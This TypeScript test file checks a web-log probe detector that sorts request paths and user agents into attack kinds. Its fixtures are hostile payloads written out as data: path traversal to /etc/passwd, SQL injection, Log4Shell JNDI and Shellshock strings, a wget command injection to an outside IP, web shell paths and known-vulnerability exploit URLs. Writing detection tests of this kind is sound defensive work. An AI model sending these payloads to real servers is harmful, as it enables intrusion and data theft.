import { Buffer } from 'node:buffer'
import { expect, test } from 'vitest'
import { LogLine } from '../log-line.ts'
import { ProbeFinder } from './find-probes.ts'
import { listKinds } from './probe-kinds.ts'

function find(target: string, { status = 404, agent = '' } = {}) {
  const line = new LogLine()
  line.request = Buffer.from(target, 'latin1')
  line.targetEnd = line.request.length
  line.bytes = Buffer.from(agent, 'latin1')
  line.agentEnd = line.bytes.length
  line.status = status
  const { kinds, marks } = new ProbeFinder().find(line)
  const shown = marks.map(({ isAgent, start, end }) =>
    (isAgent ? line.bytes : line.request).toString('latin1', start, end),
  )
  return { kinds: listKinds(kinds), shown }
}

test.each([
  ['/../../etc/passwd', ['traversal', 'config-file']],
  ['/..%2f..%2fetc/passwd', ['traversal', 'config-file']],
  ['/%2e%2e/%2e%2e/x', ['traversal']],
  ['/%252e%252e%252fx', ['traversal']],
  ['/%25252e%25252e%25252fx', ['traversal']],
  ['/..%5c..%5cwindows%5cwin.ini', ['traversal', 'config-file']],
  ['/..%c0%af..%c0%afx', ['traversal']],
  ['/..%u002f..%u002fx', ['traversal']],
  ['/..%uff0f..%uff0fx', ['traversal']],
  ['/a/..;/manager/html', ['traversal', 'known-hole']],
  ['/get?f=..%2f..%2fx', ['traversal']],
  ['/get?f=x.php%00.png', ['traversal']],
  ['/.env', ['config-file']],
  ['/.ENV.backup', ['config-file']],
  ['/%2eenv', ['config-file']],
  ['/app/.git/HEAD', ['config-file']],
  ['/web.config', ['config-file']],
  ['/wp-config.php.bak', ['config-file']],
  ['/db/dump.sql', ['config-file']],
  ['/backup.zip', ['config-file']],
  ['/admin/.ssh/id_rsa', ['config-file']],
  ['/c99.php', ['web-shell']],
  ['/uploads/x.jsp?cmd=id', ['web-shell']],
  ['/wp-content/uploads/2020/01/a.php', ['web-shell']],
  ["/p?id=1' OR '1'='1", ['injection']],
  ['/p?id=1+UNION+ALL+SELECT+1,2', ['injection']],
  ['/p?id=1/**/union/*x*/select/**/1', ['injection']],
  ['/p?x=%24%7bjndi%3aldap%3a//203.0.113.1/a%7d', ['injection']],
  ['/p?x=;wget%20http://203.0.113.1/a', ['injection']],
  ['/?redirect:${(#a)}', ['injection', 'known-hole']],
  ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', ['known-hole']],
  ['/autodiscover/autodiscover.json?@a.example/mapi/nspi?x', ['known-hole']],
  [
    '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession',
    ['traversal', 'known-hole'],
  ],
  [
    '/dana-na/../dana/html5acc/guacamole/../../../../etc/passwd',
    ['traversal', 'config-file', 'known-hole'],
  ],
  ['/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp', ['traversal', 'known-hole']],
  ['/blog/wp-includes/wlwmanifest.xml', ['wordpress']],
  ['/wp-login.php', ['wordpress']],
  ['/wp-json/wp/v2/users/', ['wordpress']],
])('%s is looked through as %j', (target, kinds) => {
  expect(find(target).kinds).toEqual(kinds)
})

test.each([
  ['/', 200],
  ['/wp-login.php', 200],
  ['/wp-admin/', 302],
  ['/phpmyadmin/', 200],
  ['/search?q=how+to+select+a+union', 200],
  ['/search?q=100%25+cotton', 200],
  ['/docs/environment', 404],
  ['/images/photo..jpg', 404],
  ['/a/b...c', 404],
  ['/news/2024/sql-server.html', 404],
  ['/return?to=%2Fnext%3Fa%3D1', 200],
  ['/download/backup', 404],
  ['/.well-known/acme-challenge/x', 404],
  ['/robots.txt', 404],
  ['/%E3%81%8A%E5%95%8F%E3%81%84%E5%90%88%E3%82%8F%E3%81%9B', 200],
  ['/cart?items=3&cmdline=no', 200],
  ['/scripts/app.config.js', 404],
])('%s answered %i is everyday traffic', (target, status) => {
  expect(find(target, { status }).kinds).toEqual([])
})

test.each([
  ['sqlmap/1.7#stable (https://sqlmap.org)', ['scanner']],
  ['Mozilla/5.00 (Nikto/2.1.6)', ['scanner']],
  ['${${::-j}ndi:ldap://203.0.113.1/a}', ['injection']],
  ['() { :; }; /bin/bash -c "id"', ['injection']],
  ['Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', []],
])('the agent %s tells %j', (agent, kinds) => {
  expect(find('/', { status: 200, agent }).kinds).toEqual(kinds)
})

test('the bytes that show it are those of the request as it came', () => {
  expect(find('/x/%252e%252e%252fetc%2fpasswd').shown).toEqual([
    '/%252e%252e%252f',
    '%252fetc%2fpasswd',
  ])
  expect(find('/%2eenv').shown).toEqual(['/%2eenv'])
  expect(find('/p?id=1+union++select+2').shown).toEqual(['union++select'])
})
